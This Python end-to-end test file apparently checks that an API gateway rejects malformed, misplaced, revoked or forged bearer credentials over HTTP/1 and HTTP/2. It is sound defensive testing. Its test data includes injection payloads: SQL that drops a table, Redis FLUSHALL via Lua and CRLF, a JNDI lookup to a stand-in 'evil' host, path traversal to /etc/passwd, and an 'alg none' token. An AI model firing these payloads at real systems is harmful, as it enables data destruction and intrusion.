"""Whoever is not exactly one known key is nobody, and all nobodies look alike."""

from tests.e2e.attacks import words
from tests.e2e.attacks.http1 import Http1, ask, request, send
from tests.e2e.attacks.http2 import ask2
from tests.e2e.attacks.row import (
    NOT_HTTP,
    PASSES,
    UNAUTHENTICATED,
    refused,
    rows,
)
from tests.e2e.attacks.rows.bodies import is_chat

_STRICT = "authz takes one bearer credential, written exactly"
_LOOKUP = "authz looks the key's digest up"
_KEY = words.KEY


def _with(line: bytes) -> Http1:
    """Send a request with this Authorization header, and no other."""
    return ask(words.CHAT, line, key=None)


def _bearer(credential: bytes) -> Http1:
    return _with(b"authorization: Bearer " + credential)


_FORMS = [
    (2, "an empty header", b"authorization:"),
    (3, "Basic with the key as its password", b"authorization: Basic " + _KEY),
    (4, "the scheme in lower case", b"authorization: bearer " + _KEY),
    (5, "the scheme in upper case", b"authorization: BEARER " + _KEY),
    (6, "two spaces behind the scheme", b"authorization: Bearer  " + _KEY),
    (7, "a tab behind the scheme", b"authorization: Bearer\t" + _KEY),
    (8, "another scheme", b"authorization: Token " + _KEY),
    (9, "no scheme", b"authorization: " + _KEY),
    (10, "a comma behind the key", b"authorization: Bearer " + _KEY + b","),
    (
        11,
        "two headers, the bad one first",
        b"authorization: Bearer "
        + words.UNKNOWN
        + b"\r\nauthorization: Bearer "
        + _KEY,
    ),
    (
        12,
        "two headers, the good one first",
        b"authorization: Bearer "
        + _KEY
        + b"\r\nauthorization: Bearer "
        + words.UNKNOWN,
    ),
    (
        13,
        "the good one twice",
        b"authorization: Bearer " + _KEY + b"\r\nauthorization: Bearer " + _KEY,
    ),
    (14, "a list in one header", b"authorization: Bearer x, Bearer " + _KEY),
    (15, "a folded line after the key", b"authorization: Bearer " + _KEY + b"\r\n x"),
    (16, "letters beyond ASCII", b"authorization: Bearer \xe2\x98\x83" + _KEY),
    (17, "a quoted key", b'authorization: Bearer "' + _KEY + b'"'),
    (
        18,
        "the header named hop-by-hop",
        b"connection: authorization\r\nauthorization: Bearer " + words.UNKNOWN,
    ),
    (19, "the key in a cookie", b"cookie: authorization=Bearer " + _KEY),
    (20, "the key in x-api-key", b"x-api-key: " + _KEY),
    (21, "the key in api-key", b"api-key: " + _KEY),
    (22, "the key for a proxy", b"proxy-authorization: Bearer " + _KEY),
    (23, "the key in an underscore-free twin", b"x-authorization: Bearer " + _KEY),
]
_CREDENTIALS = [
    (30, "an unknown key", words.UNKNOWN),
    (31, "a revoked key", words.REVOKED),
    (32, "an expired key", words.EXPIRED),
    (33, "a key without its last letter", _KEY[:-1]),
    (34, "a key with one letter more", _KEY + b"A"),
    (35, "the key id of a good key with another secret", _KEY[:16] + b"A" * 43),
    (36, "a key id alone", _KEY[3:15]),
    (37, "SQL in the key", b"' OR '1'='1'; DROP TABLE keys; --"),
    (38, "Lua in the key", b"]]..redis.call('FLUSHALL')..[["),
    (39, "a Redis hash tag and pattern in the key", b"th_{s1}:*_" + b"A" * 43),
    (40, "a Redis key in the key", b"th:key:*:th:tenant:acme:0000000"),
    (41, "an encoded line break in the key", b"th_%0d%0aFLUSHALL%0d%0a_" + b"A" * 43),
    (42, "a format string in the key", b"th_%s%n${jndi:ldap://evil}_" + b"A" * 43),
    (43, "a path in the key", b"../../../../etc/passwd/" + b"A" * 43),
    (44, "a key of 20 KB", b"A" * 20_000),
    (
        45,
        "a token signed by nobody (alg none)",
        b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJhY21lIn0.",
    ),
    (46, "what scripts send for no key", b"undefined"),
]

ROWS = [
    *rows(
        "authorization",
        [
            (1, "no header", _STRICT, ask(key=None), UNAUTHENTICATED),
            *(
                (at, what, _STRICT, _with(it), UNAUTHENTICATED)
                for at, what, it in _FORMS
            ),
            *(
                (at, what, _LOOKUP, _bearer(it), UNAUTHENTICATED)
                for at, what, it in _CREDENTIALS
            ),
            (
                50,
                "a header of 64 KB",
                "max_request_headers_kb",
                _bearer(b"A" * 65_536),
                refused(431, code="headers_too_large"),
            ),
            (
                51,
                "NUL in the key",
                "the codec refuses it",
                _bearer(_KEY + b"\0"),
                NOT_HTTP,
            ),
            (
                52,
                "a carriage return in the key",
                "the codec refuses it",
                _bearer(_KEY + b"\revil: 1"),
                refused(400, 401),
            ),
            (
                53,
                "the key in the query string",
                _STRICT,
                ask(words.CHAT.encode() + b"?api_key=" + _KEY, key=None),
                UNAUTHENTICATED,
            ),
            (
                54,
                "the key in the body",
                _STRICT,
                ask(body=b'{"api_key":"' + _KEY + b'",' + words.BODY[1:], key=None),
                UNAUTHENTICATED,
            ),
            (
                55,
                "the key as the URL's user",
                _STRICT,
                ask(b"http://" + _KEY + b"@localhost" + words.CHAT.encode(), key=None),
                refused(400, 401, 404),
            ),
            (
                56,
                "a key on a folded line of its own",
                "the codec unfolds it before authz reads it",
                _with(b"authorization: Bearer\r\n " + _KEY),
                PASSES,
                is_chat,
            ),
            (
                57,
                "two fields on HTTP/2",
                _STRICT,
                ask2(words.CHAT, ("authorization", b"Bearer " + words.UNKNOWN)),
                UNAUTHENTICATED,
            ),
            (58, "no field on HTTP/2", _STRICT, ask2(key=None), UNAUTHENTICATED),
            (
                59,
                "the field as a trailer on HTTP/2",
                _STRICT,
                ask2(key=None, trailers=[("authorization", b"Bearer " + _KEY)]),
                UNAUTHENTICATED,
            ),
            (
                60,
                "a key with no scope for the path",
                "authz: a scope per operation",
                ask(words.COMPLETIONS, body=words.PROMPT, key=words.NARROW),
                refused(403, code="insufficient_permissions"),
            ),
            (
                61,
                "a key with no scope to list models",
                "authz: a scope per operation",
                ask(words.MODELS, method="GET", body=b"", key=words.NARROW),
                refused(403, code="insufficient_permissions"),
            ),
            (
                62,
                "a key from outside its networks",
                "authz: the peer's address",
                ask(key=words.BOUND),
                refused(403, code="insufficient_permissions"),
            ),
            (
                63,
                "a bad key behind a good one on one connection",
                "each request is authorised by itself",
                send(
                    request(close=False),
                    request(key=words.UNKNOWN, close=False),
                    linger=0.3,
                ),
                refused(each=(200, 401)),
                is_chat,
            ),
            *(
                (
                    at,
                    f"a key that may not chat, to {path}",
                    "authz: a scope per operation",
                    ask(path, key=words.READER),
                    refused(403, code="insufficient_permissions"),
                )
                for at, path in enumerate(
                    (words.CHAT, words.RESPONSES, words.MESSAGES), start=64
                )
            ),
            (
                67,
                "a key that may not embed",
                "authz: a scope per operation",
                ask(words.EMBEDDINGS, body=words.EMBED, key=words.NARROW),
                refused(403, code="insufficient_permissions"),
            ),
        ],
    )
]
